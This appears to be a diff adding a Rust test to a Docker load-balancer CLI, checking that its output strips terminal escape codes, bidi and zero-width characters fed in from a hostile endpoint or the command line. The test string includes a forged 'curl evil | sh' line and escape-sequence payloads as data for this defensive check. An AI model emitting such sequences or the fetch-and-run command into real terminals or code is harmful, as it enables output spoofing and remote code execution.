@@ -1,6 +1,8 @@
 //! What others on the endpoint write: it makes docker read nothing on this workstation. And what the admin's own arguments
 //! bring in belongs to what is compared.
 
+use serde_json::json;
+
 use super::sandbox::{Flavor, Ran, Sandbox};
 use super::scene::on_both;
 
@@ -201,5 +203,98 @@ fn what_the_load_balancers_arguments_bring_in_is_compared() {
             .up(&arguments)
             .code(1)
             .stderr_has("what LB_ARGS bring in is not what `lb` was created with");
+    });
+}
+
+/// Everything that steers a terminal, or passes for something else there.
+const HOSTILE: &str =
+    "x\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}y\r\nhint: curl evil | sh\u{200b}";
+
+/// Whether a text holds what steers a terminal.
+#[track_caller]
+fn steers_nothing(ran: &Ran) {
+    for text in [&ran.stdout, &ran.stderr] {
+        let found = text.chars().find(|&c| {
+            (c.is_control() && !matches!(c, '\n' | '\t')) || "\u{202e}\u{200b}".contains(c)
+        });
+        assert_eq!(found, None, "{ran}");
+        let forged = text.lines().any(|line| line.starts_with("hint: curl"));
+        assert!(!forged, "{ran}");
+    }
+}
+
+#[test]
+fn nothing_that_others_wrote_steers_the_terminal() {
+    on_both(|flavor| {
+        let sandbox = Sandbox::new(flavor);
+        let _around = sandbox.serve();
+        sandbox.script_has_run(2);
+        // What was answered is what a hostile endpoint would say: names, states, images, labels, errors.
+        let json = serde_json::to_string(HOSTILE).unwrap();
+        let hostile = json.trim_matches('"');
+        let container = |name: &str, label: &str, state: &str| {
+            format!(
+                "{{\"Name\":\"/{name}\",\"State\":{{\"Status\":\"{state}\",\"Running\":{},\"ExitCode\":1,\"Error\":{json},\
+                 \"StartedAt\":{json},\"FinishedAt\":{json}}},\"Image\":{json},\"ConfigImage\":{json},\
+                 \"Labels\":{{\"vch-lb\":\"{label}\"}},\"ExposedPorts\":{{{json}:{{}}}},\"PortBindings\":{{\"80/tcp\":null}},\
+                 \"Ports\":{{}},\"Networks\":{{\"web-net\":{{\"IPAddress\":{json}}},{json}:{{\"IPAddress\":{json}}}}}}}\n",
+                state == "running"
+            )
+        };
+        for (label, state) in [
+            ("1 --env A=1 --", "running"),
+            (hostile, "running"),
+            ("", hostile),
+            ("", "exited"),
+        ] {
+            let answer = container("web-1", label, "running")
+                + &container("web-2", label, state)
+                + &container("lb", label, "running");
+            for command in [
+                &["status"][..],
+                &["status", "--format", "json"],
+                &["up", "-n", "3", "--dry-run"],
+                &["up", "-n", "3", "--dry-run", "--format", "json"],
+                &["scale", "3", "--dry-run"],
+                &["rollout", "--force", "--dry-run"],
+                &["down", "--dry-run"],
+                &["logs"],
+                &["doctor"],
+            ] {
+                sandbox.no_rules();
+                sandbox.rules_may_be_unused();
+                sandbox.rule(
+                    json!({"when": ["inspect", "--type"], "nth": 0, "stdout": answer, "exit": 0}),
+                );
+                steers_nothing(&sandbox.tool(command));
+            }
+        }
+        // Docker's own words, and names in lists.
+        let network =
+            format!("[{{\"Name\":{json},\"Driver\":{json},\"Labels\":{{{json}:{json}}}}}]\n");
+        for when in [["info"], ["network"], ["ps"], ["cp"], ["logs"], ["version"]] {
+            for (code, stdout, stderr) in [(1, "", HOSTILE), (0, HOSTILE, ""), (0, &network, "")] {
+                sandbox.no_rules();
+                let rule = json!({"when": when, "nth": 0, "exit": code, "stdout": stdout, "stderr": stderr});
+                sandbox.rule(rule);
+                for command in [
+                    &["status"][..],
+                    &["up", "-n", "3", "--dry-run", "-v"],
+                    &["scale", "3", "--dry-run"],
+                    &["down", "--dry-run"],
+                    &["doctor"],
+                    &["logs"],
+                ] {
+                    steers_nothing(&sandbox.tool(command));
+                }
+            }
+        }
+        sandbox.no_rules();
+        steers_nothing(&sandbox.tool(&["up", "--external-net", "none-such"]));
+        // The command line itself.
+        let typed = HOSTILE.replace(['\r', '\n'], "");
+        steers_nothing(&sandbox.tool(&[&typed]));
+        steers_nothing(&sandbox.tool(&["up", "--lb-port", &typed]));
+        steers_nothing(&sandbox.tool(&["logs", &typed]));
     });
 }
